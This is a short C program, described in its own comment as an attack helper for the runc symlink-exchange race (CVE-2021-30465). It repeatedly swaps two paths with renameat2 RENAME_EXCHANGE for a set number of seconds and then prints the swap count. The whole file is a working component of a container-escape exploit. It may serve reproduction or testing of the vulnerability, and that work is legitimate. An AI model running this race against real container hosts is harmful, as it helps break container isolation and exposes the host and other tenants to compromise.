/* Attack helper for the symlink-exchange race (runc CVE-2021-30465):
 * atomically swap two names (renameat2 RENAME_EXCHANGE) as fast as
 * possible, for SECONDS or until killed, so that a path checked as a
 * directory is a symlink a moment later and back.  Prints the number of
 * swaps.
 *
 *   swap SECONDS PATH1 PATH2 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv)
{
	if (argc != 4) {
		fprintf(stderr, "usage: swap SECONDS PATH1 PATH2\n");
		return 2;
	}
	time_t end = time(NULL) + atoi(argv[1]);
	unsigned long n = 0;
	while (time(NULL) < end) {
		for (int i = 0; i < 1000; i++, n++)
			if (syscall(SYS_renameat2, AT_FDCWD, argv[2], AT_FDCWD, argv[3],
				    RENAME_EXCHANGE) < 0) {
				fprintf(stderr, "swap: %s\n", strerror(errno));
				return 1;
			}
	}
	printf("%lu swaps\n", n);
	return 0;
}
